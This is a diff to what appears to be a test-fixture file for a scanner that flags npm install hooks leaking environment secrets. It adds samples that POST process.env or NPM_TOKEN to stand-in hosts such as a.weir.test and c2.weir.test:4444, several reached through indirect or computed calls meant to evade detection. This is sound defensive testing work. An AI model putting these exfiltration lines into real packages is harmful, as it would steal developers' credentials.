@@ -13,6 +13,8 @@ function installed(code: string, more: Readonly<Record<string, string>> = {}): R
   };
 }
 
+const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
+
 function at(rule: string, severity: 'critical' | 'high' | 'medium', line: number, file = 'setup.js') {
   return { rule, file, line, severity };
 }
@@ -87,6 +89,66 @@ export const samples: Samples = {
       expected: [at('environment', 'critical', 3)],
     },
     {
+      name: 'an exported function that the hook calls',
+      files: installed(`const { run } = require('./lib');\nrun();\n`, {
+        'lib/index.js': `exports.other = () => 1;\nexports.run = () => {\n  ${STEAL};\n};\n`,
+      }),
+      expected: [at('environment', 'critical', 3, 'lib/index.js')],
+    },
+    {
+      name: 'through a file that hands names on, late and by a computed name',
+      files: installed(
+        `setTimeout(async () => {\n  const api = await import('./lib');\n  api[process.argv[2]]();\n});\n`,
+        {
+          'lib/index.js': `__exportStar(require('./deep'), exports);\nfunction __exportStar(m, e) { for (const k in m) e[k] = m[k]; }\n`,
+          'lib/deep.js': `exports.run = function () {\n  ${STEAL};\n};\n`,
+        },
+      ),
+      expected: [at('environment', 'critical', 2, 'lib/deep.js')],
+    },
+    {
+      name: 'a method of a class in another file, as an event handler',
+      files: installed(
+        `const { Telemetry } = require('./telemetry');\nconst t = new Telemetry();\nprocess.on('exit', () => t.flush());\n`,
+        {
+          'telemetry.js': `class Telemetry {\n  flush() {\n    ${STEAL};\n  }\n}\nmodule.exports = { Telemetry };\n`,
+        },
+      ),
+      expected: [at('environment', 'critical', 3, 'telemetry.js')],
+    },
+    {
+      name: 'handed over as a callback, in an object, from a module',
+      files: {
+        'package.json': manifest({ type: 'module', scripts: { postinstall: 'node setup.js' } }),
+        'setup.js': `import { send } from './send.js';\nimport { each } from './each.js';\neach({ done: send });\n`,
+        'send.js': `const post = () => {\n  ${STEAL};\n};\nexport { post as send };\n`,
+        'each.js': `export function each(handlers) { for (const k in handlers) handlers[k](); }\n`,
+      },
+      expected: [at('environment', 'critical', 2, 'send.js')],
+    },
+    {
+      name: 'a file whose name only is spelled, loaded by a computed path',
+      files: installed(
+        `const load = (p) => require(require('path').join(__dirname, p));\nload('work/job.js').go();\n`,
+        { 'work/job.js': `exports.go = () => {\n  ${STEAL};\n};\n` },
+      ),
+      expected: [at('environment', 'critical', 2, 'work/job.js')],
+    },
+    {
+      name: 'a function of the exports that the file itself calls by a computed name',
+      files: installed(
+        `exports.run = () => {\n  ${STEAL};\n};\nconst name = ['r', 'un'].join('');\nmodule.exports[name]();\n`,
+      ),
+      expected: [at('environment', 'critical', 2)],
+    },
+    {
+      name: 'the environment into a socket of another machine',
+      files: installed(
+        `const net = require('net');\nconst s = net.connect(4444, 'c2.weir.test');\ns.write(JSON.stringify(process.env));\n`,
+      ),
+      expected: [at('environment', 'critical', 3)],
+    },
+    {
       name: 'a secret to a request catcher',
       files: imported(
         `fetch('https://exfil.weir.test/x', { method: 'POST', body: process.env.NPM_TOKEN });\n`,
@@ -127,6 +189,28 @@ export const samples: Samples = {
       'own address by own name',
       imported(
         `const os = require('os');\nrequire('dns').lookup(os.hostname(), (err, address) => { module.exports.address = address; });\n`,
+      ),
+    ),
+    quiet(
+      'a client for a service of the package, which the hook loads and does not use',
+      installed(`const { note } = require('./lib/log');\nnote('installed');\n`, {
+        'lib/log.js': `const os = require('os');\nconst { verify } = require('./verify');\nexports.note = (text) => console.log(text);\nexports.check = () => verify(os.hostname() + JSON.stringify(process.env));\n`,
+        'lib/verify.js': `exports.verify = async (text) => {\n  const answer = await fetch('https://api.weir.test/verify/' + text);\n  return answer.ok;\n};\n`,
+      }),
+    ),
+    quiet(
+      'the environment through a function whose neighbour opens sockets',
+      installed(
+        `const { serialize } = require('./sockets');\nconsole.log(serialize({ ...process.env }));\n`,
+        {
+          'sockets.js': `const { connect } = require('net');\nfunction dial(where, done) { return connect(where, done); }\nfunction serialize(value) { return Buffer.from(JSON.stringify(value)); }\nmodule.exports = { dial, serialize };\n`,
+        },
+      ),
+    ),
+    quiet(
+      'the environment for a daemon of this machine',
+      installed(
+        `const net = require('net'), os = require('os'), path = require('path');\nconst pipe = process.platform === 'win32' ? '\\\\\\\\.\\\\pipe\\\\x' : path.join(os.tmpdir(), 'x.sock');\nconst socket = net.connect({ path: pipe });\nsocket.write(JSON.stringify(process.env));\nnet.createConnection(path.join(os.tmpdir(), 'y.sock')).end(JSON.stringify(process.env));\n`,
       ),
     ),
     quiet(
